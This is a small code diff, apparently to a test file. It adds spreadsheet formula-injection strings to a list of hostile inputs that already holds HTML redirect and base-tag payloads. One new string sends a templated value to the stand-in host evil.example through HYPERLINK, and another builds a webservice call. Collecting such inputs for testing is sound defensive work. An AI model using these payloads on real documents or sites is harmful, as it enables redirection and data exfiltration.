@@ -121,6 +121,8 @@ HOSTILE = [
     "<meta http-equiv=refresh content='0; url= {T}'>",
     "<base href='https://evil.example/'><img src= {T}>",
     "![x](" * 12 + " {T}",
+    '=HYPERLINK("https://evil.example/?q=)" & "{T}")',
+    '=1+webservice( A1 & " {T}")',
 ]
 
 
